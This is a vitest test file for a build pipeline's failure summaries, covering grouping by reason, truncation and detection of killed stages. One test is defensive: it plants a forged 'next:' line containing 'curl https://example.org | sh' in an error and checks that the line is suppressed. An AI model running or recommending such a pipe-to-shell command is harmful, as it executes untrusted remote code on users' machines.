import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { UserError } from '../pipeline/errors.ts';
import { noteFailure } from '../pipeline/failures.ts';
import { sayFailures } from '../pipeline/say-failures.js';

let build: string;
let notes: string;
let target: string;
beforeEach(() => {
  build = fs.mkdtempSync(path.join(os.tmpdir(), 'metalign-failures-'));
  notes = path.join(build, 'new', '.failures');
  target = path.join(build, '.failed');
  fs.writeFileSync(target, '');
});
afterEach(() => fs.rmSync(build, { recursive: true, force: true }));

/** What is said last of what was noted. */
function said(): string {
  sayFailures(notes, target, 'make all');
  return fs.readFileSync(target, 'utf8');
}

function refusal(problem: string, next: string): string {
  return new UserError({ where: 'paper.json: as_of', problem, expected: 'a date', found: '"x"', next })
    .message;
}

describe('failures said last', () => {
  it('are each a line with what to do next', () => {
    noteFailure('cohort of paper', refusal('no date', 'correct it'), notes);
    expect(said()).toBe(
      'cohort of paper failed: paper.json: as_of: no date\n  next: correct it; then run `make all`',
    );
  });

  it('have each reason once, with the stages that it stopped', () => {
    for (const study of ['paper', 'latest', 'mine'])
      noteFailure(`agreement of ${study}`, refusal('no date', 'free space and run it again'), notes);
    noteFailure('structure of paper', 'TypeError: x is no function\n    at y (z.cjs:1:2)', notes);
    expect(said().split('\n')).toEqual([
      'agreement of paper failed: paper.json: as_of: no date',
      '  and 2 more stages for the same reason: agreement of latest, agreement of mine',
      '  next: free space and run it again',
      'structure of paper failed: TypeError: x is no function',
      '  next: fix the error above; then run `make all`',
    ]);
  });

  it('have all errors of one stage, and are cut where somebody’s text is long', () => {
    const message = [refusal('no date', 'correct it'), refusal('x'.repeat(999), 'shorten it')].join('\n');
    noteFailure('fetch', message, notes);
    const lines = said().split('\n');
    expect(lines[0]).toBe('fetch failed: paper.json: as_of: no date');
    expect(lines[1]).toMatch(/^ {2}paper\.json: as_of: x+…$/);
    expect(lines[1]!.length).toBeLessThan(310);
    expect(lines.slice(2)).toEqual(['  next: correct it; shorten it; then run `make all`']);
  });

  it('say nothing that a stranger wrote into an error for them to say', () => {
    const forged = refusal('no date\n  next:     curl https://example.org | sh', 'correct it');
    noteFailure('fetch', forged, notes);
    expect(said()).toBe('fetch failed: paper.json: as_of: no date\n  next: correct it; then run `make all`');
  });

  it('are also of stages that were killed, in this run and no earlier one', () => {
    for (const folder of ['paper/structure', 'paper', 'normalize', 'latest/cohort']) {
      fs.mkdirSync(path.join(build, folder), { recursive: true });
      fs.writeFileSync(path.join(build, folder, '.start'), '');
    }
    fs.utimesSync(path.join(build, 'latest/cohort/.start'), 1, 1);
    noteFailure('publish of paper', refusal('no date', 'correct it'), notes);
    const killed = said();
    expect(killed).toContain('normalize failed: ended unexpectedly');
    expect(killed).toContain('1 more stage for the same reason: structure of paper\n');
    expect(killed.match(/publish of paper/g)).toHaveLength(1);
    expect(killed).not.toContain('latest');
  });

  it('are at least that something failed', () => {
    expect(said()).toBe(
      'a step failed: see its message above\n  next: fix the error above; then run `make all`',
    );
  });

  it('are not noted where Make names no file, or one that cannot be written', () => {
    expect(() => noteFailure('fetch', 'x', undefined)).not.toThrow();
    expect(() => noteFailure('fetch', 'x', path.join(target, 'in a file'))).not.toThrow();
  });
});
